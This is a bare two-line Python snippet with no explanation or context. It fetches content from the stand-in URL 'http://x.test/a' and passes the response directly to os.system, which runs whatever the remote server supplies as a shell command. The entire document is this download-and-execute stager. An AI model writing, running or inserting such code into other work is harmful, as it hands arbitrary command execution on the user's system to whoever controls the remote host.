import urllib.request, os
os.system(urllib.request.urlopen('http://x.test/a').read())
